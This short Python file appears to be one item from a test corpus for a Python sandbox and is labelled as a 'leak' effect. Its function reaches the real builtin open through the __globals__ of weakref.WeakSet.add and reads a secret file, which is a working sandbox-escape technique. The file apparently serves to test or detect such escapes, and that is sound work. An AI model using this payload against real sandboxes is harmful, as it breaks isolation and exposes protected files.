# effect: leak
# note: a class kept by a weak reference table
import weakref


def attempt(probe):
    inside = weakref.WeakSet.add.__globals__
    return inside["__builtins__"]["open"](probe["secret_file"]).read()
